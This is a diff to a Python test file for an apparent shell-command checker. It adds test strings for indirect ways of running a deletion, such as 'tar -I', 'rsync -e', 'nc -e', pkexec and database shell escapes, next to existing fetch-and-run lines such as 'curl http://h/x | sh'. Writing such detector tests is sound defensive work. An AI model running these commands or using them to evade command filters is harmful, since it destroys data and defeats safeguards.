@@ -36,6 +36,12 @@ RUNS_RM = [
     "alias ls='rm x'", "PROMPT_COMMAND='rm x'", "export PROMPT_COMMAND='rm x'", "PS1='$(rm x)' ls",
     "GIT_PAGER='rm x' git log", "sudo sh -c 'eval \"rm x\"'", "git submodule foreach 'rm x'",
     "git bisect run rm x", "noglob rm x", "and rm x", "cat >o y; rm x", "[ -f y ] && rm x",
+    "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "/lib/ld-musl-x86_64.so.1 rm x", "pkexec rm x",
+    "gosu bob rm x", "prlimit --nofile=9 rm x", "setarch x86_64 rm x",
+    "sched +1 rm x", "poetry run rm x", "uv run rm x", "bundle exec rm x", "npm exec -- rm x",
+    "ip netns exec ns rm x", "rsync -e 'rm x' a b", "tar -I 'rm x' -cf a b",
+    "sort --compress-program='rm x' f", "split --filter 'rm x' f", "man -P 'rm x' ls",
+    "nc -e 'rm x' h 80", "sg wheel -c 'rm x'",
     "[[ a == b ]] || rm x", "echo a#b; rm x", "echo \\# ; rm x", "rm x # ls", "cd /;rm x",
 ]  # fmt: skip
 
@@ -49,6 +55,7 @@ def test_a_command_is_seen_wherever_it_is(line: str) -> None:
 
 # Each runs something that no reader can tell beforehand.
 OPAQUE = [
+    "sqlite3 db '.shell x'", "psql -c '\\! x'", "mysql -e 'system x'", "rsync -e \"$x\" a b",
     "$x", "$x y", "${x} y", '"$x" y', "$(ls) y", "`ls` y", "r$x y", "/bin/$x", "?m y", "/bin/r* y",
     "eval $x", 'eval "rm $x"', "bash -c $x", 'bash -c "$x"', "bash -c \"$(cat y)\"", "bash $x",
     "curl http://h/x | sh", "curl http://h/x | sudo bash", "cat x | bash -s", "sh < x",
@@ -220,7 +227,7 @@ def test_programs_files_and_connections_have_facts_too() -> None:
     called = facts_of(
         effect(kind=EffectKind.CONNECT, destination="h:80"), GRAMMAR.parse, Links().real
     )
-    assert called.hosts == ("h:80",)
+    assert called.hosts == ("h:80", "h")
     typed = facts_of(
         effect("DROP TABLE x;", kind=EffectKind.INPUT, path="/usr/bin/psql"),
         GRAMMAR.parse,
